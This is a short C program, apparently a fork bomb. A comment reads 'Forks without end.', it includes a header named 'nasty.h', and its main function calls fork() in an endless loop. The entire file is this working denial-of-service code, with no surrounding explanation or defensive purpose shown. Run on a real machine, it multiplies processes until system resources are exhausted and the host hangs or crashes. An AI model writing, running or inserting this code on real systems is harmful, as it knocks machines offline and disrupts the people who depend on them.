/* Forks without end. */
#include "nasty.h"

int main(void) { for (;;) fork(); }
